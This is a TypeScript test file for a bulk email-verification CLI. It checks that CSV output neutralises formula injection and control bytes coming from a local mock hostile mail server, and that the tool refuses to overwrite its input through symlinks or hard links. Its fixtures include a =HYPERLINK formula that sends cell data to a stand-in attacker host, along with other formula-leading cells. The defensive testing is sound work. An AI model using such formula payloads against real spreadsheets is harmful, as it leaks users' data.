/**
 * The file attacks of issue 14, with `rcpt bulk` as a process: CSV formula injection (cells starting
 * with `=`, `+`, `-`, `@`, tab or CR, in the user's columns, in `address` and in `smtp_message`, which
 * a hostile MX writes) and control bytes from a server's reply reaching the output raw; and an output
 * that is the input (the same path, a symlink, a hard link, another path to it), which replaced the
 * user's file. Each fails on 392480d.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server, type Socket } from 'node:net';
import { link, mkdtemp, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';

import { runBulk } from './helpers/disk-run.js';

/** A reply with a formula and control bytes (NUL, ESC, BEL, DEL) in its text. */
const HOSTILE_REPLY =
  '550 =HYPERLINK("http://evil.test/?"&A2,"Click")\x00\x1b[31m\x07\x7f mailbox unavailable';

let dir: string;
let mx: Server;
let port = 0;
const sockets = new Set<Socket>();

before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'rcpt-file-attacks-'));
  // An MX that answers every RCPT with the hostile reply.
  mx = createServer((socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
    socket.on('error', () => undefined);
    socket.write('220 mx.hostile.test ESMTP\r\n');
    let buffer = '';
    socket.on('data', (chunk: Buffer) => {
      buffer += chunk.toString('latin1');
      let lf: number;
      while ((lf = buffer.indexOf('\n')) !== -1) {
        const verb = (buffer.slice(0, lf).split(' ')[0] ?? '').toUpperCase();
        buffer = buffer.slice(lf + 1);
        if (verb === 'RCPT') socket.write(`${HOSTILE_REPLY}\r\n`, 'latin1');
        else if (verb === 'QUIT') socket.end('221 Bye\r\n');
        else socket.write('250 OK\r\n');
      }
    });
  });
  await new Promise<void>((resolve) => mx.listen(0, '127.9.7.1', resolve));
  port = (mx.address() as { port: number }).port;
});
after(async () => {
  for (const socket of sockets) socket.destroy();
  await new Promise((resolve) => mx.close(resolve));
  await rm(dir, { recursive: true, force: true });
});

function bulk(args: readonly string[]) {
  return runBulk([
    ...args,
    '--allow-private-targets',
    '--smtp-port',
    String(port),
    '--helo',
    'probe.file.test',
  ]);
}

const DANGEROUS = /^[=+\-@\t\r]/;

describe('attack 2: CSV formula injection and control bytes', () => {
  it('rcpt bulk CSV: every cell that would start a formula starts with a quote, control bytes are escaped; --csv-formulas keep writes them as they are; NDJSON keeps exact values', async () => {
    const input = join(dir, 'f.csv');
    // Every address is at the test's own MX, so each row has the hostile reply and the run takes a
    // fraction of a second (no address off this machine: a probe of one would really leave it).
    await writeFile(
      input,
      'name,email,note\n"=HYPERLINK(""http://evil.test/?d=""&B2,""Click"")",=1+1@[127.9.7.1],+cmd\n@SUM(1),user@[127.9.7.1],-2\n"\ttab",\tt@[127.9.7.1],"\rcr"\n',
    );
    const out = join(dir, 'f-out.csv');
    const run = await bulk([input, '-o', out, '--db', join(dir, 'f.db')]);
    assert.equal(run.code, 0, run.stderr);
    const text = await readFile(out, 'utf8');
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(text, /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]/, 'no raw control byte in the file');
    const rows: string[][] = parse(text, { relax_column_count: true });
    const cells = rows.flat();
    const dangerous = cells.filter((cell) => DANGEROUS.test(cell));
    assert.deepEqual(dangerous, [], 'no cell starts a formula');
    assert.ok(cells.includes(`'=HYPERLINK("http://evil.test/?d="&B2,"Click")`), 'the user column, quoted');
    assert.ok(cells.includes(`'=1+1@[127.9.7.1]`), 'the address, quoted');
    assert.ok(cells.includes("'+cmd") && cells.includes("'@SUM(1)") && cells.includes("'-2"));
    const message = cells.find((cell) => cell.includes('HYPERLINK("http://evil.test/?"&A2'));
    assert.equal(
      message,
      `'=HYPERLINK("http://evil.test/?"&A2,"Click")\\x00\\x1b[31m\\x07\\x7f mailbox unavailable`,
    );

    const raw = join(dir, 'f-raw.csv');
    const keep = await bulk([
      input,
      '-o',
      raw,
      '--db',
      join(dir, 'f.db'),
      '--resume',
      '--csv-formulas',
      'keep',
    ]);
    assert.equal(keep.code, 0, keep.stderr);
    const rawRows: string[][] = parse(await readFile(raw, 'utf8'), { relax_column_count: true });
    const rawCells = rawRows.flat();
    assert.ok(rawCells.includes('=1+1@[127.9.7.1]') && rawCells.includes('-2'), 'kept as they are');

    const json = join(dir, 'f-out.ndjson');
    const nd = await bulk([input, '-o', json, '--db', join(dir, 'f-nd.db')]);
    assert.equal(nd.code, 0, nd.stderr);
    const records = (await readFile(json, 'utf8'))
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { input: string; smtp: { reply: { text: string } | null } | null });
    assert.equal(records[0]?.input, '=1+1@[127.9.7.1]', 'NDJSON keeps the exact value');
    assert.ok(records.some((record) => record.smtp?.reply?.text.startsWith('=HYPERLINK') === true));
  });
});

describe('attack 4: the output is the input', () => {
  it('-o INPUT, through a symlink, a hard link or another path to it: exit 64 before anything is written, the file untouched', async () => {
    const input = join(dir, 'mal.csv');
    const content = 'name,email\nAlice,"broken\nBob,bob@[127.9.7.2]\n';
    await writeFile(input, content);
    await symlink(input, join(dir, 'mal-link.csv'));
    await link(input, join(dir, 'mal-hard.csv'));
    const before = await stat(input);
    for (const output of [
      input,
      join(dir, 'mal-link.csv'),
      join(dir, 'mal-hard.csv'),
      `${dir}/./x/../mal.csv`,
    ]) {
      const run = await bulk([input, '-o', output]);
      assert.equal(run.code, 64, `${output}: exit ${run.code} ${run.stderr}`);
      // A usage error: one `rcpt:` line saying why (and the --help hint), no stack trace.
      assert.doesNotMatch(run.stderr, /^\s+at /m);
      assert.match(run.stderr, /^rcpt: .* is the input file /m);
    }
    // The job database must not be the input either.
    const db = await bulk([input, '-o', join(dir, 'mal-out.csv'), '--db', input]);
    assert.equal(db.code, 64, db.stderr);
    assert.equal(await readFile(input, 'utf8'), content);
    const after = await stat(input);
    assert.equal(after.mtimeMs, before.mtimeMs);
    assert.equal(after.size, before.size);
  });
});
